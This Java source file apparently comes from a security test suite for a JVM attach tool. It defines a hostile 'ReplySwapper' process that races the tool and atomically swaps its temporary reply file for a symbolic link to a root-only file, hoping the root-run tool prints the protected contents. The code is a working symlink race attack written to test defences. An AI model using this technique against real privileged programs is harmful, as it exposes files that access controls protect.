package dev.selfconnect.scenarios;

import java.io.BufferedReader;
import java.io.IOException;
import java.io.InputStreamReader;
import java.nio.charset.StandardCharsets;
import java.nio.file.DirectoryStream;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.Paths;
import java.nio.file.StandardCopyOption;
import java.util.concurrent.TimeUnit;

/**
 * A hostile target for the attach tool, run as another user than the tool: a thread watches the JVM's temporary
 * directory for the tool's reply file and, once it may, replaces it with a symbolic link to a file only root may
 * read, hoping the tool (run as root) prints what it reads there. The replacement is atomic, as an attacker would
 * make it. Usage: {@code ReplySwapper TARGET}; prints
 * {@code READY pid=PID}, then {@code RESULT swapped NAME} once it did; ends at {@code exit} on standard input.
 */
public final class ReplySwapper {

    private ReplySwapper() {
    }

    public static void main(String[] args) throws Exception {
        Path target = Paths.get(args[0]);
        Path tmp = Paths.get(System.getProperty("java.io.tmpdir"));
        Thread swapper = new Thread(() -> {
            while (true) {
                try (DirectoryStream<Path> files = Files.newDirectoryStream(tmp, "selfconnect-reply-*")) {
                    for (Path file : files) {
                        Path link = tmp.resolve("link-" + file.getFileName());
                        Files.deleteIfExists(link);
                        Files.createSymbolicLink(link, target);
                        // rename(2) replaces the file in one step: the path never names nothing
                        Files.move(link, file, StandardCopyOption.ATOMIC_MOVE);
                        System.out.println("RESULT swapped " + file.getFileName());
                        return;
                    }
                } catch (IOException notYetOurs) {
                    // the tool has not handed the file over yet
                }
                try {
                    TimeUnit.MILLISECONDS.sleep(1);
                } catch (InterruptedException e) {
                    return;
                }
            }
        }, "swapper");
        swapper.setDaemon(true);
        swapper.start();
        System.out.println("READY pid=" + ConnectOnDemand.pid());
        BufferedReader in = new BufferedReader(new InputStreamReader(System.in, StandardCharsets.UTF_8));
        for (String line = in.readLine(); line != null && !line.equals("exit"); line = in.readLine()) {
            System.out.println("RESULT unknown command " + line);
        }
    }
}
